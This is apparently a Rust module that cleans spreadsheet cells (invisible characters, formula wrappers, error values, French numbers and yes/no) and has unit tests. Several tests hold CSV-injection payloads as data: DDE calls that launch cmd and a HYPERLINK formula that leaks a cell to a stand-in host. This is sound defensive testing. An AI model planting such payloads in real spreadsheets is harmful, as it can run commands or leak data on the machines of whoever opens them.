//! What a cell of a spreadsheet says once its disguises are off: invisible characters, the `="0353"` by which people
//! keep a zero, the apostrophe that protects a formula, French yes and no, French numbers, error values.
//! Sources: norms on spreadsheets (reading and writing), OWASP CSV injection.

use crate::problem::{Fault, say};

/// Why a value can't be taken, told in both languages, with what the author probably meant.
///
/// A suggestion is only ever shown: nothing applies it by itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValueFault {
    pub code: &'static str,
    pub fr: String,
    pub en: String,
    pub suggestion: Option<String>,
}

impl ValueFault {
    pub fn new(code: &'static str, fr: impl Into<String>, en: impl Into<String>) -> ValueFault {
        ValueFault { code, fr: fr.into(), en: en.into(), suggestion: None }
    }

    pub fn suggesting(mut self, suggestion: impl Into<String>) -> ValueFault {
        self.suggestion = Some(suggestion.into());
        self
    }

    /// As the fault of a field, in the words of a feature; what was probably meant is told.
    pub fn at(self, pointer: &str, feature: &str) -> Fault {
        let detail = match &self.suggestion {
            None => say(self.fr, self.en),
            Some(meant) => say(format!("{} Peut-être : {meant}.", self.fr), format!("{} Perhaps: {meant}.", self.en)),
        };
        Fault::at(pointer, format!("{feature}.{}", self.code.replace('.', "_")), detail)
    }
}

/// What national registers have where somebody asked for something not to be shown.
const UNDISCLOSED: &str = "[NON-DIFFUSIBLE]";

/// Whether a text holds what may not be shown: it is no value, wherever it was copied from.
pub fn is_undisclosed(text: &str) -> bool {
    text.contains(UNDISCLOSED)
}

/// What was taken off a cell before reading it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Disguise {
    /// Blanks around the value.
    Blanks,
    /// No-break and other exotic spaces.
    NoBreakSpace,
    /// Zero-width characters and byte-order marks.
    Invisible,
    /// U+202E and its kin, which show text in another order than it is written.
    DirectionMark,
    /// A tab, carriage return or other control character before the text.
    ControlCharacter,
    /// `="0353…"`.
    FormulaWrapper,
    /// `'` before `=`, `+`, `-`, `@`, as an export writes it.
    ProtectingApostrophe,
}

/// A cell without its disguises.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Plain {
    pub text: String,
    pub disguises: Vec<Disguise>,
}

impl Plain {
    pub fn is_repaired(&self) -> bool {
        !self.disguises.is_empty()
    }
}

fn is_direction_mark(c: char) -> bool {
    matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{061C}')
}

/// The zero-width joiner stays: it holds emoji together.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200B}' | '\u{2060}' | '\u{FEFF}' | '\u{00AD}')
}

fn is_exotic_space(c: char) -> bool {
    matches!(c, '\u{00A0}' | '\u{202F}' | '\u{2000}'..='\u{200A}' | '\u{205F}' | '\u{3000}')
}

fn is_forbidden_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\t' | '\r')
}

/// The characters by which a spreadsheet program takes a text for a formula.
pub fn begins_like_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'])
}

/// Takes the disguises off and says which there were. Line breaks inside the text stay, as `\n`.
pub fn plain(raw: &str) -> Plain {
    let mut disguises = Vec::new();
    let mut note = |disguise: Disguise| {
        if !disguises.contains(&disguise) {
            disguises.push(disguise);
        }
    };
    // The common case costs one pass and no decision.
    if raw.bytes().all(|b| (0x21..0x7f).contains(&b) && b != b'=' && b != b'\'') {
        return Plain { text: raw.to_owned(), disguises };
    }
    let mut text = String::with_capacity(raw.len());
    let mut characters = raw.chars().peekable();
    let mut leading = true;
    while let Some(c) = characters.next() {
        if is_direction_mark(c) {
            note(Disguise::DirectionMark);
        } else if is_invisible(c) {
            note(Disguise::Invisible);
        } else if is_forbidden_control(c) || (leading && matches!(c, '\t' | '\r')) {
            note(Disguise::ControlCharacter);
        } else if is_exotic_space(c) {
            note(Disguise::NoBreakSpace);
            text.push(' ');
        } else if c == '\r' {
            if characters.peek() != Some(&'\n') {
                text.push('\n');
            }
        } else {
            leading = leading && c == ' ';
            text.push(c);
        }
    }
    let trimmed = text.trim();
    if trimmed.len() != text.len() {
        note(Disguise::Blanks);
        text = trimmed.to_owned();
    }
    if let Some(inner) = unwrapped(&text) {
        note(Disguise::FormulaWrapper);
        text = inner;
    }
    if let Some(rest) = text.strip_prefix('\'')
        && begins_like_a_formula(rest.trim_start_matches('\''))
    {
        note(Disguise::ProtectingApostrophe);
        text = rest.to_owned();
    }
    Plain { text, disguises }
}

/// `="0353"` → `0353`; anything computed inside stays as it is.
fn unwrapped(text: &str) -> Option<String> {
    let inner = text.strip_prefix("=\"")?.strip_suffix('"')?;
    (!inner.contains('"')).then(|| inner.trim().to_owned())
}

/// Whether a cell holds an error of a spreadsheet program (Excel in French and English, LibreOffice).
pub fn is_spreadsheet_error(text: &str) -> bool {
    let text = text.trim();
    if let Some(number) = text.strip_prefix("Err:") {
        return !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit());
    }
    if !text.starts_with('#') {
        return false;
    }
    const ERRORS: [&str; 19] = [
        "#N/A",
        "#N/D",
        "#NA",
        "#REF!",
        "#VALEUR!",
        "#VALUE!",
        "#NOM?",
        "#NAME?",
        "#DIV/0!",
        "#NUL!",
        "#NULL!",
        "#NOMBRE!",
        "#NUM!",
        "#CALC!",
        "#SPILL!",
        "#PROPAGATION!",
        "#CHAMP!",
        "#FIELD!",
        "#GETTING_DATA",
    ];
    ERRORS.iter().any(|error| text.eq_ignore_ascii_case(error)) || (text.len() > 2 && text.bytes().all(|b| b == b'#'))
}

/// Whether a text is a number in scientific notation, such as `7,32829E+13`: digits of an identifier that are gone.
pub fn is_scientific(text: &str) -> bool {
    let text = text.trim();
    let Some((mantissa, exponent)) = text.split_once(['E', 'e']) else { return false };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let whole_and_rest = mantissa.split_once([',', '.']);
    let mantissa_is_number = match whole_and_rest {
        Some((whole, rest)) => digits(whole) && digits(rest),
        None => digits(mantissa),
    };
    mantissa_is_number && digits(exponent.trim_start_matches(['+', '-'])) && !exponent.is_empty()
}

/// French yes and no as people tick them; `None` for anything that is neither (and for an empty cell).
pub fn yes_or_no(text: &str) -> Option<bool> {
    match text.trim().trim_end_matches(['.', '!']).to_lowercase().as_str() {
        "oui" | "o" | "x" | "xx" | "vrai" | "1" | "✓" | "✔" | "✔️" | "☑" | "☒" | "✅" | "yes" | "y" | "true" | "ok"
        | "fait" => Some(true),
        "non" | "n" | "faux" | "0" | "no" | "false" | "☐" | "✗" | "✘" | "❌" => Some(false),
        _ => None,
    }
}

/// A number as it is written in France: decimal comma, thousands apart by any space. A point is read as decimal too.
pub fn number(text: &str) -> Option<f64> {
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let (sign, digits) = match compact.strip_prefix('-') {
        Some(rest) => ("-", rest),
        None => ("", compact.strip_prefix('+').unwrap_or(&compact)),
    };
    if digits.is_empty() || !digits.bytes().all(|b| b.is_ascii_digit() || b == b',' || b == b'.') {
        return None;
    }
    let separators = digits.bytes().filter(|b| *b == b',' || *b == b'.').count();
    if separators > 1 {
        return None;
    }
    format!("{sign}{}", digits.replace(',', ".")).parse().ok()
}

/// `67600.0` or `67600,0` → `67600`: a whole number that went through a decimal format.
pub fn without_decimal_zeros(text: &str) -> Option<&str> {
    let (whole, rest) = text.split_once(['.', ','])?;
    let is_whole = !whole.is_empty() && whole.bytes().all(|b| b.is_ascii_digit());
    (is_whole && !rest.is_empty() && rest.bytes().all(|b| b == b'0')).then_some(whole)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disguises_come_off_and_are_named() {
        let cases: [(&str, &str, &[Disguise]); 12] = [
            ("Barr", "Barr", &[]),
            (" Barr", "Barr", &[Disguise::Blanks]),
            ("Epfig\u{a0}", "Epfig", &[Disguise::NoBreakSpace, Disguise::Blanks]),
            ("=\"0353019802\"", "0353019802", &[Disguise::FormulaWrapper]),
            ("'=1+1 (note du bureau)", "=1+1 (note du bureau)", &[Disguise::ProtectingApostrophe]),
            ("\t=1+2", "=1+2", &[Disguise::ControlCharacter]),
            ("\r=1+2", "=1+2", &[Disguise::ControlCharacter]),
            ("\u{202E}elpmaxe", "elpmaxe", &[Disguise::DirectionMark]),
            ("a\u{200B}b", "ab", &[Disguise::Invisible]),
            ("ligne 1\r\nligne 2", "ligne 1\nligne 2", &[]),
            ("＝1+1", "＝1+1", &[]),
            ("'s Gravenhage", "'s Gravenhage", &[]),
        ];
        for (raw, text, disguises) in cases {
            assert_eq!(plain(raw), Plain { text: text.into(), disguises: disguises.to_vec() }, "{raw:?}");
        }
    }

    #[test]
    fn a_formula_is_kept_as_text() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://piege.example/?\"&B2;\"Cliquez ici\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "@le_club_zero",
            "- prêt de gobelets",
            "+ 2 adhérents",
            "-2+3+cmd|' /C calc'!A0",
            "{{7*7}} ${7*7} <%= 7*7 %>",
        ] {
            assert_eq!(plain(text), Plain { text: text.into(), disguises: vec![] });
        }
    }

    #[test]
    fn an_emoji_survives() {
        assert_eq!(plain("le samedi 🙂 👩‍🌾").text, "le samedi 🙂 👩‍🌾");
    }

    #[test]
    fn error_values_are_known_in_both_languages() {
        for error in ["#N/A", "#REF!", "#VALEUR!", "#NOM?", "#DIV/0!", "#value!", "Err:504", "#####"] {
            assert!(is_spreadsheet_error(error), "{error}");
        }
        for text in ["", "#1", "# remarque", "Err", "N/A"] {
            assert!(!is_spreadsheet_error(text), "{text}");
        }
    }

    #[test]
    fn scientific_notation_is_recognised_with_comma_and_point() {
        for text in ["7,32829E+13", "7.32829E+13", "9,99E+13", "9.9900123E+13", "1e5"] {
            assert!(is_scientific(text), "{text}");
        }
        for text in ["999ABC12300017", "12E", "E12", "1234", "2A004"] {
            assert!(!is_scientific(text), "{text}");
        }
    }

    #[test]
    fn yes_and_no_in_every_dress() {
        for text in ["oui", "OUI", "Oui", "x", "X", "o", "✓", "1", "vrai", "VRAI"] {
            assert_eq!(yes_or_no(text), Some(true), "{text}");
        }
        for text in ["non", "Non", "0", "faux", "n"] {
            assert_eq!(yes_or_no(text), Some(false), "{text}");
        }
        for text in ["en cours", "membre de droit", "?", ""] {
            assert_eq!(yes_or_no(text), None, "{text}");
        }
    }

    #[test]
    fn numbers_are_written_the_french_way() {
        assert_eq!(number("0,2"), Some(0.2));
        assert_eq!(number("1 234,5"), Some(1234.5));
        assert_eq!(number("1\u{a0}234,5"), Some(1234.5));
        assert_eq!(number("1\u{202f}234,5"), Some(1234.5));
        assert_eq!(number("-3"), Some(-3.0));
        assert_eq!(number("1.234,5"), None);
        assert_eq!(number("abc"), None);
        assert_eq!(without_decimal_zeros("67600.0"), Some("67600"));
        assert_eq!(without_decimal_zeros("67600.5"), None);
    }
}
